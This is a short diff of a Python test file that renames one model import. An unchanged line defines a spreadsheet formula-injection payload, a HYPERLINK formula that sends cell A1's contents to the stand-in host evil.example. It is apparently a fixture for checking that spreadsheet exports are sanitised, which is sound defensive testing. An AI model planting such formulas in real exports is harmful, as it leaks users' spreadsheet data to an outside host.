@@ -9,7 +9,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from server.grids.models import Department
+from server.organisation.models import Department
 from tests.factories import insert_cases
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
